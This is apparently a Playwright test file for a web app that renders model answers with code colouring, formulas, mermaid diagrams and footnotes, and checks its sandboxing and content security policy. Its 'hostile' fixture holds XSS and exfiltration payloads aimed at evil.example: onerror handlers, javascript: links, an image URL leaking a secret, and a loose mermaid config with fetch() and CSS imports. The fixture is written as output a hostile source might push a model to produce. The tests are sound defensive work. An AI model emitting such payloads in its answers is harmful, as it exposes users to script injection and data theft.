/** What few answers have: colours, formulas, diagrams, images, footnotes, in a real Chromium against the real server. */
import {resolve} from 'node:path';
import {expect} from 'chai';
import type {Browser, Page} from 'playwright-core';
import {openAiStandIn} from '../support/openai-stand-in.ts';
import {openChromium, openPage} from '../support/open-chromium.ts';
import {runServer} from '../support/run-server.ts';

const CORPUS = resolve(import.meta.dirname, '../fixtures/corpus');

const ordinary = '## Tides\n\nThe **moon** pulls [1]. It costs $5 and $10.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n\n```\nplain code\n```\n';
const rich = `A note[^why].

\`\`\`js
const tide = "high"; // twice a day
\`\`\`

Inline $a^2$, and

$$
\\frac{1}{2}
$$

\`\`\`mermaid
flowchart LR
  Moon --> Tide
  Sun -->|less| Tide
\`\`\`

[^why]: The note.
`;

/** What a hostile source may have made a model write. */
const hostile = `<img src=https://evil.example/raw.png onerror=harmed()> ![a](https://evil.example/image.png?q=secret) [x](javascript:harmed()) <https://evil.example/auto>

[^n]: ![n](https://evil.example/note.png) <script>harmed()</script>

See[^n] $\\href{javascript:harmed()}{x}$ and \\(\\includegraphics{https://evil.example/math.png}\\).

\`\`\`mermaid
%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(https://evil.example/theme.css); * {background: url(https://evil.example/theme.png)}"}}%%
flowchart LR
  A["<img src=https://evil.example/label.png onerror='parent.harmed(); fetch(\\"https://evil.example/fetch\\")'>"] --> B
  click A href "javascript:harmed()"
  click B call harmed()
  style A fill:url(https://evil.example/fill.png)
\`\`\`

\`\`\`html"><img src=https://evil.example/info.png>
<script>harmed()</script>
\`\`\`
`;

describe('rich answers', () => {
  let browser: Browser;
  before(async () => {
    browser = await openChromium();
  });
  after(() => browser.close());

  /** Asks a model that says a text, and waits for the end of its answer. */
  async function answered(text: string, watch: (page: Page) => void = () => undefined) {
    const stack = new AsyncDisposableStack();
    const llm = await openAiStandIn({writer: {tokens: text.match(/[^]{1,7}/g) ?? []}});
    stack.defer(() => llm.close());
    const server = stack.use(await runServer({CORPUS, LLM_BASE_URL: llm.url, LLM_ANALYSIS: 'off', LLM_RELATED: 'off'}));
    const watched = stack.use(await openPage(browser));
    const {page} = watched;
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    watch(page);
    await page.goto(server.url);
    await page.getByRole('textbox').fill('What causes the tides of the sea?');
    await page.getByRole('textbox').press('Enter');
    await page.locator('llm-window:state(done)').waitFor();
    return {...watched, server, requests, [Symbol.asyncDispose]: () => stack.disposeAsync()};
  }

  it('load nothing of it when an answer is an ordinary one', async () => {
    await using shown = await answered(ordinary);
    await shown.page.waitForTimeout(1_500); // longer than code waits for an idle moment
    expect(shown.requests.filter((url) => /color-code|typeset-math|draw-diagram|diagram\/|languages/.test(url))).to.deep.equal([]);
    expect(await shown.page.locator('llm-answer .math').count()).to.equal(0);
    expect(shown.problems).to.deep.equal([]);
  });

  it('have colours, formulas, footnotes and diagrams, under a strict policy and from this server alone', async () => {
    await using shown = await answered(rich);
    const {page, problems, origins, server} = shown;
    await page.locator('llm-answer math').nth(1).waitFor();
    await page.locator('llm-answer .diagram.drawn iframe').waitFor();
    await page.waitForFunction(() => (CSS.highlights.get('llm-code-keyword')?.size ?? 0) > 0);
    const frame = page.frames().find((one) => one.url().endsWith('/diagram/'))!;
    expect(await frame.locator('svg').textContent()).to.contain('Moon').and.contain('less');
    expect(await frame.evaluate(() => origin)).to.equal('null');
    const {headers} = await fetch(`${server.url}/diagram/`);
    expect(headers.get('content-security-policy')).to.contain("default-src 'none'").and.contain('sandbox allow-scripts').and.contain('frame-ancestors *');
    expect(headers.get('x-frame-options')).to.be.null;
    expect(await page.locator('llm-answer .diagram pre').isVisible()).to.equal(false);
    await page.getByRole('button', {name: 'Source of the diagram'}).click();
    expect(await page.locator('llm-answer .diagram pre').innerText()).to.contain('Moon --> Tide');
    await page.locator('llm-answer .footnote').evaluate((reference) => reference.scrollIntoView()); // what is far off screen is not drawn
    await page.locator('llm-answer .footnote button').click();
    expect(await page.locator('llm-answer .footnotes li').evaluate((item) => item.matches(':focus'))).to.equal(true);
    expect(problems).to.deep.equal([]);
    expect([...origins]).to.deep.equal([server.url]);
  });

  it('show the source of a diagram where the frame is blocked, and of one that makes no sense', async () => {
    await using blocked = await answered(rich, (page) => void page.route('**/diagram/', (route) => route.abort()));
    await blocked.page.locator('llm-answer .diagram pre').waitFor();
    await using senseless = await answered('```mermaid\nflowchart nonsense ((\n```\n');
    await senseless.page.waitForTimeout(2_500);
    expect(await senseless.page.locator('llm-answer .diagram pre').isVisible()).to.equal(true);
    expect(await senseless.page.locator('llm-answer iframe').count()).to.equal(0);
  });

  it('run no script and reach no other host, whatever they say', async () => {
    const harmed: string[] = [];
    await using shown = await answered(hostile, (page) => {
      page.on('dialog', (dialog) => void dialog.dismiss());
      void page.exposeFunction('harmed', () => harmed.push('called'));
      void page.route(/evil\.example/, (route) => route.abort());
    });
    const {page, requests, server} = shown;
    await page.locator('llm-answer pre').first().waitFor();
    await page.waitForTimeout(3_000); // for the frame to try
    expect(harmed).to.deep.equal([]);
    expect(requests.filter((url) => !url.startsWith(server.url) && !url.startsWith('data:') && !url.startsWith('blob:'))).to.deep.equal([]);
    const addresses = await page.locator('llm-answer').evaluate((answer) => [...answer.shadowRoot!.querySelectorAll('[href], [src], [onerror], [onclick]')].map((element) => element.outerHTML));
    expect(addresses.filter((html) => /javascript:|\son\w+=/i.test(html.replaceAll(/data-\w+="[^"]*"/g, '')))).to.deep.equal([]);
  });
});
